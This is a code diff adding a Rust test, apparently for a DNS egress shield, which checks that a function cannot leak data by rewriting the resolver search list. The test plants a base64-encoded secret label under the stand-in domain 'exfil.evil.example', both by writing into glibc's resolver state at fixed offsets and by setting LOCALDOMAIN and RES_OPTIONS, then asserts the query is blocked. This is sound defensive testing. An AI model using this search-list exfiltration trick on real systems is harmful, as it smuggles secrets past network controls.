@@ -1705,3 +1705,91 @@ fn r4_alert_mode_unchanged() {
     assert!(evs.iter().all(|e| e.action != Action::Blocked), "{evs:?}");
 }
 both!(r4_alert_mode_unchanged, super::r4_alert_mode_unchanged);
+
+/// The search list turns the query for an allowed name into a query for a name of the
+/// function's choosing: `_res.dnsrch` rewritten in memory (with `ndots` 5, searched first), or
+/// `LOCALDOMAIN` + `RES_OPTIONS=ndots:5` set with `setenv` before a thread's first lookup.
+/// Refused while the search list differs from libc's own configuration; no query leaves.
+fn r4_search_list_rewritten() {
+    let rip = per_ic("127.0.0.213", "127.0.0.214", "127.0.0.215");
+    let resolver = bind53(rip);
+    let s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
+    let allowed = c"sqs.us-east-1.amazonaws.com";
+    let lookup = || {
+        let mut res: *mut libc::addrinfo = std::ptr::null_mut();
+        // SAFETY: an all-zero addrinfo is valid hints (family and type set below).
+        let mut hints: libc::addrinfo = unsafe { std::mem::zeroed() };
+        hints.ai_family = libc::AF_INET;
+        hints.ai_socktype = libc::SOCK_STREAM;
+        // SAFETY: getaddrinfo with valid strings, hints and out-pointer; the list is freed.
+        unsafe {
+            let r = libc::getaddrinfo(allowed.as_ptr(), std::ptr::null(), &hints, &mut res);
+            if r == 0 {
+                libc::freeaddrinfo(res);
+            }
+            r
+        }
+    };
+    // In memory: the thread's _res searches the function's domain first.
+    res_point_at(ip4(rip));
+    // SAFETY: writes inside the thread's `struct __res_state` (568 bytes): defdname (256
+    // bytes at 128), dnsrch[0..2] (at 72), the ndots bits (at 392).
+    unsafe {
+        let st = __res_state();
+        let dom = b"c2VjcmV0LWtleQ.exfil.evil.example\0";
+        std::ptr::copy_nonoverlapping(dom.as_ptr(), st.add(128), dom.len());
+        std::ptr::write_unaligned(st.add(72).cast::<usize>(), st.add(128) as usize);
+        std::ptr::write_unaligned(st.add(80).cast::<usize>(), 0);
+        let w = std::ptr::read_unaligned(st.add(392).cast::<u32>());
+        std::ptr::write_unaligned(st.add(392).cast::<u32>(), (w & !0xf) | 5);
+    }
+    let r = lookup();
+    if cfg!(feature = "libc-layer") {
+        assert_ne!(r, 0, "getaddrinfo through a rewritten search list");
+        assert!(
+            nothing_arrived(&resolver),
+            "a query left through the rewritten search list"
+        );
+    }
+    // Through the environment, before a new thread's first lookup.
+    // SAFETY: setenv with valid strings (the other threads of this case do not read the
+    // environment meanwhile).
+    unsafe {
+        libc::setenv(
+            c"LOCALDOMAIN".as_ptr(),
+            c"c2VjcmV0LWtleQ.exfil.evil.example".as_ptr(),
+            1,
+        );
+        libc::setenv(
+            c"RES_OPTIONS".as_ptr(),
+            c"ndots:5 attempts:1 timeout:1".as_ptr(),
+            1,
+        );
+    }
+    let rip4 = ip4(rip);
+    let r = std::thread::spawn(move || {
+        // SAFETY: res_init on this thread's fresh state (it reads LOCALDOMAIN and
+        // RES_OPTIONS), then only the name server is pointed at the test's resolver.
+        unsafe {
+            assert_eq!(res_init(), 0);
+            let st = __res_state();
+            std::ptr::write_unaligned(st.add(16).cast::<i32>(), 1);
+            let sa = sockaddr_in(rip4, 53, libc::AF_INET as u16);
+            std::ptr::write_unaligned(st.add(20).cast::<libc::sockaddr_in>(), sa);
+        }
+        lookup()
+    })
+    .join()
+    .unwrap();
+    if cfg!(feature = "libc-layer") {
+        assert_ne!(r, 0, "getaddrinfo with LOCALDOMAIN set by the function");
+        assert!(
+            nothing_arrived(&resolver),
+            "a query left through LOCALDOMAIN"
+        );
+        let evs = events(&s);
+        assert!(evs.iter().any(|e| e.action == Action::Blocked
+            && matches!(&e.details, Details::Bypass { what } if what == "DNS query for sqs.us-east-1.amazonaws.com through a search list changed after install")), "{evs:?}");
+    }
+}
+both!(r4_search_list_rewritten, super::r4_search_list_rewritten);
